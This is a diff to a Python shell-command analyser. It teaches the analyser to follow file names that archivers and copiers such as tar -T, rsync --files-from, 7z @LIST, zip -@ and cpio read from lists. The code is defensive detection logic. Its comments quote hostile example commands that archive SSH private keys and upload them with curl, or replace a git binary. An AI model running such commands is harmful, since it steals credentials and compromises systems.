@@ -773,6 +773,9 @@ class _Walker:
                     # `docker ps -aq | xargs docker rm -f`: the ids of that listing are its operands, as in
                     # `docker rm -f $(docker ps -aq)` (the rules read the listing there)
                     self.xargs_on(nxt, ["$(" + " ".join(listing) + ")"], _join_via(via, listing[0] + " | xargs"))
+            if nxt.argv and nxt.argv[0] in _NAMES_FROM_LIST and len(prev) == 1 and prev[0].argv \
+                    and "-" in _list_files(nxt.argv[0], nxt.argv[1:]):
+                self.names_listed(nxt, prev, via)  # `ls ~/.ssh/id_* | zip -@ k.zip`: it archives what ls lists
             lister = _lister_through_filters(stages, i)
             if lister is not None and nxt.argv and nxt.argv[0] in effects.DELETERS \
                     and ("xargs" in nxt.wrappers or "parallel" in nxt.wrappers):
@@ -1031,6 +1034,8 @@ class _Walker:
                 if "xargs" in target.wrappers or "parallel" in target.wrappers:
                     self.lookup_operands(target, feeders, via)  # `xargs cp evil < <(which git)`
                     self.ls_fed_reader(target, feeders, via)  # `xargs cat < <(ls)`, `xargs -a <(ls) cat`
+                if target.argv[0] in _NAMES_FROM_LIST and "-" in _list_files(target.argv[0], target.argv[1:]):
+                    self.names_listed(target, feeders, via)  # `zip -@ k.zip < <(ls ~/.ssh/id_*)`
             if path in self.procsubs and target.stdin_text is None:
                 target.stdin_text = self.procsubs[path]
                 self.feed(target, target.stdin_text, depth)
@@ -1043,6 +1048,9 @@ class _Walker:
         if op == "<" and fd in ("", "0"):
             self.computed_operands(target, "<" + path, via)  # `xargs rm -rf < list.txt`
             printers = self.printed_to.get(_plain_path(path))
+            if printers and target.argv and target.argv[0] in _NAMES_FROM_LIST \
+                    and "-" in _list_files(target.argv[0], target.argv[1:]):
+                self.names_listed(target, printers, via)  # `zip -@ x.zip < /tmp/l`, `cpio -o < /tmp/l`
             if printers and target.argv:
                 # `which git > /tmp/p; read p < /tmp/p`, `… ; xargs cp evil < /tmp/p`: what they printed
                 self.read_from(target, printers)
@@ -1745,6 +1753,11 @@ class _Walker:
             for k, a in enumerate(args[:-1]):
                 if a in opts and len(d.redirects) < 64:
                     d.redirects.append(Redirect("<", args[k + 1]))
+        if prog in _NAMES_FROM_LIST and "names listed for" not in via:
+            # `ls ~/.ssh/id_* > /tmp/l; tar czf - -T /tmp/l | curl -T - URL`: the listed files are read and sent
+            for f in _list_files(prog, list(args)):
+                if f != "-":
+                    self.names_listed(d, self.procsub_drafts.get(f) or self.printed_to.get(_plain_path(f), []), via)
         if prog in effects.OUTPUT_WRITERS:
             self.add_effects(effects.output_writes(prog, args), prog, via)
         if prog in _EFFECT_TOOLS:
@@ -2351,6 +2364,19 @@ class _Walker:
             return
         for n in names[:8]:
             self.var_drafts[n] = [s for s in sources if s is not d][:16]
+
+    def names_listed(self, d: _Draft, sources: "list[_Draft]", via: str) -> None:
+        """An archiver or copier reading its file names from what `sources` print (a list file the line
+        wrote, `<(…)`, its stdin): judged once more with those names as operands, as `tar czf - $(ls …)`."""
+        if not sources or not d.argv:
+            return
+        d.passes.extend(s for s in sources if s is not d and s not in d.passes)
+        paths: list[str] = []
+        for s in sources[:8]:
+            # (find's starting points, as `tar czf - DIR` archives DIR — not every name under them)
+            got = _find_roots(s.argv[1:]) if s.argv[:1] == ["find"] else _printed_paths(s)
+            paths += [p for p in (got or []) if p not in paths]
+        self.xargs_on(d, paths[:8], _join_via(via, f"names listed for {d.argv[0]}"))
 
     def xargs_on(self, d: _Draft, paths: "list[str]", via: str) -> None:
         """The command xargs/parallel runs, judged once more with `paths` as its operands ({} replaced)."""
@@ -2970,6 +2996,36 @@ def _option_commands(prog: str, args: "list[str] | tuple[str, ...]") -> list[str
 
 # programs whose option names a file of names they read and print back line by line
 _NAME_LIST_READERS = {"file": frozenset({"-f", "--files-from"})}
+# archivers and copiers that take the files they read and send from a list: program → (options whose
+# value is that list's file, does it read the list on stdin) — `tar -T LIST`, `rsync --files-from=LIST`,
+# `7z a x.7z @LIST`, `zip -@ x.zip < LIST`, `cpio -o < LIST`
+_NAMES_FROM_LIST: "dict[str, tuple[frozenset[str], bool]]" = {
+    **{t: (frozenset({"-T", "--files-from"}), False) for t in ("tar", "gtar", "bsdtar")},
+    "rsync": (frozenset({"--files-from"}), False),
+    **{z: (frozenset({"@"}), False) for z in ("7z", "7za", "7zz")},
+    "zip": (frozenset(), True), "cpio": (frozenset(), True),
+}
+
+
+def _list_files(prog: str, args: "list[str]") -> "list[str]":
+    """The list files `prog` reads names from: option values, and "-" for stdin (zip -@, cpio -o, `-T -`)."""
+    opts, on_stdin = _NAMES_FROM_LIST[prog]
+    out: list[str] = []
+    for k, a in enumerate(args[:64]):
+        if "@" in opts and a.startswith("@") and len(a) > 1:
+            out.append(a[1:])
+        elif a in opts and k + 1 < len(args):
+            out.append(args[k + 1])
+        elif a.startswith("--") and a.split("=", 1)[0] in opts and "=" in a:
+            out.append(a.split("=", 1)[1])
+        elif prog in ("tar", "gtar", "bsdtar") and a.startswith("-T") and len(a) > 2:
+            out.append(a[2:])
+    if on_stdin and (prog == "zip" and any(a == "-@" or (a.startswith("-") and not a.startswith("--") and "@" in a)
+                                           for a in args)
+                     or prog == "cpio" and any(a in ("-o", "--create") or re.fullmatch(r"-[a-zA-Z]*o[a-zA-Z]*", a)
+                                               for a in args)):
+        out.append("-")
+    return [f for f in out if f][:4]
 # program → options whose value is a command line it runs (attached with `=` for long options too)
 _OPTION_COMMANDS: "dict[str, frozenset[str]]" = {
     "nano": frozenset({"-s", "--speller"}), "pico": frozenset({"-s", "--speller"}),  # the spell checker
@@ -4031,6 +4087,18 @@ def _arg_file(argv: "list[str]") -> "str | None":
         if a.startswith("-a") and len(a) > 2 and argv[:1] == ["xargs"]:
             return a[2:]
     return None
+
+
+def _find_roots(args: "list[str]") -> "list[str]":
+    """find's starting points: its operands before the first expression word (`.` when none)."""
+    roots: list[str] = []
+    for a in args[:32]:
+        if a in ("-H", "-L", "-P") or a.startswith("-O") or a.startswith("-D"):
+            continue
+        if a.startswith(("-", "(", "!")) or a == ")":
+            break
+        roots.append(a)
+    return roots or ["."]
 
 
 def _printed_paths(d: "_Draft") -> "list[str] | None":
